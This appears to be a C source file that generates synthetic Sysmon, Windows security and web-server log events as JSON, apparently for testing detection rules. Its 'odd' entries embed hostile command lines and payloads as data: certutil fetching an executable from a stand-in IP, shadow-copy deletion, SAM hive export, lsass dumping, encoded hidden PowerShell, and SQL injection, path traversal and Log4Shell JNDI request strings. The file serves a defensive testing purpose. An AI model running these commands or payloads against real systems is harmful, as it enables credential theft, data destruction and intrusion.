/* The lanes: Sysmon and Windows security events of about 800 bytes, web requests of about 200. */
/* SPDX-License-Identifier: Apache-2.0 */
/* exports: lane_ */
#include "lanes.h"

/* Every hundredth event is one that rules look for. */
#define ODD_ONE 100

struct random {
	uint64_t state;
};

static uint64_t
next(struct random *r)
{
	uint64_t z = r->state += 0x9e3779b97f4a7c15U;

	z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9U;
	z = (z ^ z >> 27) * 0x94d049bb133111ebU;
	return z ^ z >> 31;
}

static uint64_t
below(struct random *r, uint64_t n)
{
	return next(r) % n;
}

#define PICK(r, list) ((list)[below((r), ARRAY_LEN(list))])

static const char *const users[] = { "alice", "bob", "carol", "dave", "erin", "frank", "grace",
	"heidi", "ivan", "judy", "svc-backup", "svc-build", "mallory", "niaj", "olivia", "peggy" };

/* As they stand in JSON: backslashes doubled, quotes escaped. */
struct program {
	const char *image, *original, *product, *command;
};
static const struct program programs[] = {
	{ "C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe", "chrome.exe",
	    "Google Chrome",
	    "\\\"C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe\\\" "
	    "--type=renderer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4" },
	{ "C:\\\\Windows\\\\System32\\\\svchost.exe", "svchost.exe",
	    "Microsoft Windows Operating System",
	    "C:\\\\Windows\\\\system32\\\\svchost.exe -k netsvcs -p -s Schedule" },
	{ "C:\\\\Windows\\\\System32\\\\conhost.exe", "CONHOST.EXE",
	    "Microsoft Windows Operating System",
	    "\\\\??\\\\C:\\\\Windows\\\\system32\\\\conhost.exe 0xffffffff -ForceV1" },
	{ "C:\\\\Program Files\\\\Git\\\\cmd\\\\git.exe", "git.exe", "Git",
	    "git.exe log --max-count=50 --format=%H%x00%P%x00%an --date-order HEAD" },
	{ "C:\\\\Windows\\\\System32\\\\cmd.exe", "Cmd.Exe", "Microsoft Windows Operating System",
	    "C:\\\\Windows\\\\system32\\\\cmd.exe /d /s /c \\\"node scripts\\\\build.js "
	    "--watch\\\"" },
	{ "C:\\\\Program Files\\\\nodejs\\\\node.exe", "node.exe", "Node.js",
	    "node node_modules\\\\vite\\\\bin\\\\vite.js --port 5173 --host 127.0.0.1" },
	{ "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
	    "PowerShell.EXE", "Microsoft Windows Operating System",
	    "powershell.exe -NoLogo -File C:\\\\Tools\\\\inventory.ps1 -Site north" },
	{ "C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE",
	    "WinWord.exe", "Microsoft Office",
	    "\\\"C:\\\\Program Files\\\\Microsoft Office\\\\root\\\\Office16\\\\WINWORD.EXE\\\" /n "
	    "\\\"C:\\\\Users\\\\Public\\\\Documents\\\\report.docx\\\"" },
	{ "C:\\\\Windows\\\\System32\\\\taskhostw.exe", "taskhostw.exe",
	    "Microsoft Windows Operating System", "taskhostw.exe SYSTEM" },
	{ "C:\\\\Program Files\\\\Microsoft Visual Studio\\\\MSBuild\\\\Current\\\\Bin\\\\"
	  "MSBuild.exe",
	    "MSBuild.exe", "Microsoft Visual Studio",
	    "MSBuild.exe src\\\\shop.sln /m /p:Configuration=Release /verbosity:minimal" },
};

static const struct program odd_programs[] = {
	{ "C:\\\\Windows\\\\System32\\\\whoami.exe", "whoami.exe",
	    "Microsoft Windows Operating System", "whoami /all" },
	{ "C:\\\\Windows\\\\System32\\\\certutil.exe", "CertUtil.exe",
	    "Microsoft Windows Operating System",
	    "certutil -urlcache -split -f http://203.0.113.9/a.txt "
	    "C:\\\\Users\\\\Public\\\\a.exe" },
	{ "C:\\\\Windows\\\\System32\\\\vssadmin.exe", "VSSADMIN.EXE",
	    "Microsoft Windows Operating System", "vssadmin delete shadows /all /quiet" },
	{ "C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe",
	    "PowerShell.EXE", "Microsoft Windows Operating System",
	    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" },
	{ "C:\\\\Windows\\\\System32\\\\net.exe", "net.exe", "Microsoft Windows Operating System",
	    "net group \\\"domain admins\\\" /domain" },
	{ "C:\\\\Windows\\\\System32\\\\schtasks.exe", "schtasks.exe",
	    "Microsoft Windows Operating System",
	    "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\\\Users\\\\Public\\\\a.exe" },
	{ "C:\\\\Windows\\\\System32\\\\reg.exe", "reg.exe", "Microsoft Windows Operating System",
	    "reg save HKLM\\\\SAM C:\\\\Users\\\\Public\\\\sam.hiv" },
	{ "C:\\\\Windows\\\\System32\\\\rundll32.exe", "RUNDLL32.EXE",
	    "Microsoft Windows Operating System",
	    "rundll32.exe C:\\\\Windows\\\\System32\\\\comsvcs.dll, MiniDump 624 C:\\\\lsass.dmp "
	    "full" },
};

static const char *const libraries[] = { "ntdll.dll", "kernel32.dll", "user32.dll", "advapi32.dll",
	"bcrypt.dll", "ws2_32.dll", "msvcp140.dll", "combase.dll", "dbghelp.dll", "amsi.dll" };

static const char *const registry_keys[] = {
	"HKLM\\\\System\\\\CurrentControlSet\\\\Services\\\\Tcpip\\\\Parameters\\\\DhcpNameServer",
	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Explorer\\\\SlowContextMenu"
	"s",
	"HKU\\\\S-1-5-21-1004336348-1177238915-682003330-512\\\\Software\\\\Microsoft\\\\Office\\\\"
	"16.0\\\\Word\\\\Resiliency\\\\StartupItems",
	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Schedule\\\\TaskCache\\\\"
	"Tree\\\\Updater",
};
static const char *const odd_keys[] = {
	"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\updater",
	"HKLM\\\\SOFTWARE\\\\Policies\\\\Microsoft\\\\Windows Defender\\\\DisableAntiSpyware",
};

static const char *const written[] = {
	"C:\\\\Users\\\\Public\\\\AppData\\\\Local\\\\Temp\\\\vscode-inmemory\\\\index.cache",
	"C:\\\\ProgramData\\\\Microsoft\\\\Windows\\\\WER\\\\ReportQueue\\\\report.wer",
	"C:\\\\src\\\\shop\\\\target\\\\release\\\\deps\\\\libserde-1f09aa.rlib",
	"C:\\\\Windows\\\\Prefetch\\\\CHROME.EXE-AED7BA3C.pf",
};
static const char *const odd_written[] = {
	"C:\\\\Windows\\\\Temp\\\\lsass.dmp",
	"C:\\\\Users\\\\Public\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start "
	"Menu\\\\Programs\\\\Startup\\\\upd.vbs",
};

static void
put_hex(struct buf *to, struct random *r, unsigned n)
{
	for (unsigned i = 0; i < n; i += 16)
		buf_printf(to, "%0*llX", n - i < 16 ? (int)(n - i) : 16,
		    (unsigned long long)(n - i < 16 ? next(r) >> (64 - 4 * (n - i)) : next(r)));
}

static void
put_guid(struct buf *to, const char *name, struct random *r)
{
	buf_printf(to, ",\"%s\":\"{", name);
	put_hex(to, r, 8);
	buf_printf(to, "-%04X-6928-%04X-00000000%04X}\"", (unsigned)below(r, 65536),
	    (unsigned)below(r, 65536), (unsigned)below(r, 65536));
}

static void
put_head(struct buf *to, uint64_t i, const char *category, unsigned id, struct random *r)
{
	buf_printf(to,
	    "{\"timestamp\":\"2026-11-20T%02u:%02u:%02u.%03uZ\",\"logsource\":{\"product\":"
	    "\"windows\",%s%s%s},\"Channel\":\"%s\",\"EventID\":%u,\"Computer\":"
	    "\"WS-%04u.corp.example\"",
	    (unsigned)(i / 3600000 % 24), (unsigned)(i / 60000 % 60), (unsigned)(i / 1000 % 60),
	    (unsigned)(i % 1000), id > 100 ? "\"service\":\"" : "\"category\":\"", category, "\"",
	    id > 100 ? "Security" : "Microsoft-Windows-Sysmon/Operational", id,
	    (unsigned)below(r, 2000));
	put_guid(to, "ProcessGuid", r);
	buf_printf(to, ",\"ProcessId\":%u", (unsigned)below(r, 30000));
}

static void
put_hashes(struct buf *to, struct random *r)
{
	buf_str(to, STR(",\"Hashes\":\"MD5="));
	put_hex(to, r, 32);
	buf_str(to, STR(",SHA256="));
	put_hex(to, r, 64);
	buf_str(to, STR(",IMPHASH="));
	put_hex(to, r, 32);
	buf_byte(to, '"');
}

static void
process(struct buf *to, uint64_t i, struct random *r)
{
	const struct program *p = i % ODD_ONE == 0 ? &PICK(r, odd_programs) : &PICK(r, programs);
	const struct program *up = &PICK(r, programs);
	const char *user = PICK(r, users);

	put_head(to, i, "process_creation", 1, r);
	buf_printf(to,
	    ",\"Image\":\"%s\",\"OriginalFileName\":\"%s\",\"Product\":\"%s\",\"CommandLine\":"
	    "\"%s\",\"CurrentDirectory\":\"C:\\\\Users\\\\%s\\\\\",\"User\":\"CORP\\\\%s\","
	    "\"LogonId\":\"0x%x\",\"IntegrityLevel\":\"Medium\"",
	    p->image, p->original, p->product, p->command, user, user,
	    (unsigned)below(r, 0x1000000));
	put_hashes(to, r);
	buf_printf(to, ",\"ParentImage\":\"%s\",\"ParentCommandLine\":\"%s\"}", up->image,
	    up->command);
}

static void
put_common(struct buf *to, struct random *r)
{
	put_guid(to, "LogonGuid", r);
	buf_printf(to,
	    ",\"RuleName\":\"-\",\"User\":\"CORP\\\\%s\",\"Image\":\"%s\",\"Description\":\"%s\","
	    "\"Company\":\"Example Software\",\"FileVersion\":\"10.0.%u.%u\"",
	    PICK(r, users), PICK(r, programs).image, PICK(r, programs).product,
	    (unsigned)below(r, 30000), (unsigned)below(r, 9000));
}

static void
image_load(struct buf *to, uint64_t i, struct random *r)
{
	put_head(to, i, "image_load", 7, r);
	put_common(to, r);
	buf_printf(to,
	    ",\"ImageLoaded\":\"C:\\\\Windows\\\\System32\\\\%s\",\"Signed\":\"true\","
	    "\"Signature\":\"Microsoft Windows\",\"SignatureStatus\":\"Valid\"",
	    PICK(r, libraries));
	put_hashes(to, r);
	buf_byte(to, '}');
}

static void
file_event(struct buf *to, uint64_t i, struct random *r)
{
	put_head(to, i, "file_event", 11, r);
	put_common(to, r);
	buf_printf(to,
	    ",\"TargetFilename\":\"%s\",\"CreationUtcTime\":\"2026-11-20 09:00:00.%03u\"",
	    i % ODD_ONE == 3 ? PICK(r, odd_written) : PICK(r, written), (unsigned)(i % 1000));
	put_hashes(to, r);
	buf_byte(to, '}');
}

static void
registry_set(struct buf *to, uint64_t i, struct random *r)
{
	put_head(to, i, "registry_set", 13, r);
	put_common(to, r);
	buf_printf(to,
	    ",\"EventType\":\"SetValue\",\"TargetObject\":\"%s\",\"Details\":\"DWORD "
	    "(0x%08x)\",\"CommandLine\":\"%s\"",
	    i % ODD_ONE == 5 ? PICK(r, odd_keys) : PICK(r, registry_keys), (unsigned)next(r),
	    PICK(r, programs).command);
	put_hashes(to, r);
	buf_byte(to, '}');
}

static void
network_connection(struct buf *to, uint64_t i, struct random *r)
{
	put_head(to, i, "network_connection", 3, r);
	put_common(to, r);
	buf_printf(to,
	    ",\"Protocol\":\"tcp\",\"Initiated\":\"true\",\"SourceIsIpv6\":\"false\",\"SourceIp\":"
	    "\"10.%u.%u.%u\",\"SourceHostname\":\"WS-%04u.corp.example\",\"SourcePort\":%u,"
	    "\"DestinationIp\":\"198.51.100.%u\",\"DestinationHostname\":"
	    "\"edge-%u.cdn.example\",\"DestinationPort\":%u,\"DestinationPortName\":\"https\"",
	    (unsigned)below(r, 256), (unsigned)below(r, 256), (unsigned)below(r, 256),
	    (unsigned)below(r, 2000), 49152 + (unsigned)below(r, 16000), (unsigned)below(r, 256),
	    (unsigned)below(r, 500), below(r, 200) == 0 ? 4444U : 443U);
	put_hashes(to, r);
	buf_byte(to, '}');
}

static void
logon(struct buf *to, uint64_t i, struct random *r)
{
	put_head(to, i, "security", i % 40 == 6 ? 4625 : 4624, r);
	put_guid(to, "LogonGuid", r);
	buf_printf(to,
	    ",\"SubjectUserSid\":\"S-1-5-18\",\"SubjectUserName\":\"WS-%04u$\","
	    "\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x3e7\",\"TargetUserSid\":"
	    "\"S-1-5-21-1004336348-1177238915-682003330-%u\",\"TargetUserName\":\"%s\","
	    "\"TargetDomainName\":\"CORP\",\"LogonType\":%u,\"LogonProcessName\":\"Advapi\","
	    "\"AuthenticationPackageName\":\"Negotiate\",\"WorkstationName\":\"WS-%04u\","
	    "\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\services.exe\",\"IpAddress\":"
	    "\"10.%u.%u.%u\",\"IpPort\":\"%u\",\"ImpersonationLevel\":\"%%%%1833\","
	    "\"RestrictedAdminMode\":\"-\",\"VirtualAccount\":\"%%%%1843\",\"KeyLength\":0}",
	    (unsigned)below(r, 2000), 1000 + (unsigned)below(r, 3000), PICK(r, users),
	    2 + (unsigned)below(r, 9), (unsigned)below(r, 2000), (unsigned)below(r, 256),
	    (unsigned)below(r, 256), (unsigned)below(r, 256), 1024 + (unsigned)below(r, 60000));
}

static void
windows(struct buf *to, uint64_t i)
{
	static void (*const kinds[])(struct buf * to, uint64_t i, struct random * r) = { process,
		process, process, file_event, process, registry_set, logon, image_load,
		network_connection, process };
	struct random r = { i };

	(void)next(&r);
	kinds[i % ARRAY_LEN(kinds)](to, i, &r);
}

static const char *const agents[] = {
	"Mozilla/5.0 (X11; Linux x86_64) Firefox/142.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_5) Safari/604.1",
	"curl/8.5.0",
	"okhttp/4.12.0",
	"Mozilla/5.0 (Windows NT 10.0) Chrome/140.0.0.0",
};
/* A number stands between the two parts. */
static const struct page {
	const char *head, *tail;
} pages[] = { { "/", "" }, { "/articles/", "" }, { "/api/v1/orders/", "" },
	{ "/assets/app.", ".js" }, { "/search?q=red+shoes&page=", "" },
	{ "/api/v1/items?limit=50&offset=", "" }, { "/login?n=", "" },
	{ "/img/photo-", ".png?size=240" } };
static const struct page odd_pages[] = { { "/cgi-bin/../../../../etc/passwd?", "" },
	{ "/index.php?id=1+union+select+", ",2--" }, { "/?x=${jndi:ldap://203.0.113.9/", "}" },
	{ "/wp-admin/setup-config.php?step=", "" }, { "/.git/config?", "" },
	{ "/solr/admin/cores?action=", "" } };

struct names {
	const char *ip, *method, *url, *status, *agent, *bytes, *more;
};

static void
request(struct buf *to, uint64_t i, const struct names *names)
{
	struct random r = { i };
	const struct page *page;

	(void)next(&r);
	page = i % ODD_ONE == 0 ? &PICK(&r, odd_pages) : &PICK(&r, pages);
	buf_printf(to,
	    "{\"timestamp\":\"2026-11-20T%02u:%02u:%02u.%02uZ\",%s\"%s\":\"203.0.%u.%u\",\"%s\":\"%"
	    "s\","
	    "\"%s\":\"%s%u%s\",\"%s\":%u,\"%s\":%u,\"%s\":\"%s\"}",
	    (unsigned)(i / 360000 % 24), (unsigned)(i / 6000 % 60), (unsigned)(i / 100 % 60),
	    (unsigned)(i % 100), names->more, names->ip, (unsigned)below(&r, 256),
	    (unsigned)below(&r, 256), names->method, below(&r, 8) == 0 ? "POST" : "GET", names->url,
	    page->head, (unsigned)below(&r, 100000), page->tail, names->status,
	    below(&r, 30) == 0 ? 404U : 200U, names->bytes, (unsigned)below(&r, 90000),
	    names->agent, PICK(&r, agents));
}

static void
web(struct buf *to, uint64_t i)
{
	static const struct names names = { "client_ip", "method", "url", "status_code",
		"user_agent", "bytes_out", "" };

	request(to, i, &names);
}

static void
w3c(struct buf *to, uint64_t i)
{
	static const struct names names = { "c-ip", "cs-method", "cs-uri-query", "sc-status",
		"cs-user-agent", "sc-bytes",
		"\"logsource\":{\"product\":\"nginx\",\"category\":\"webserver\"}," };

	request(to, i, &names);
}

static const struct lane lanes[] = {
	{ "windows", "Sysmon and security events, about 800 bytes", windows },
	{ "web", "web requests in our own names, about 200 bytes", web },
	{ "w3c", "the same requests in the names of the rules", w3c },
};

const struct lane *
lane_at(size_t i)
{
	return i < ARRAY_LEN(lanes) ? &lanes[i] : NULL;
}

const struct lane *
lane_find(struct str name)
{
	for (size_t i = 0; i < ARRAY_LEN(lanes); i++)
		if (str_eq(str_c(lanes[i].name), name))
			return &lanes[i];
	return NULL;
}
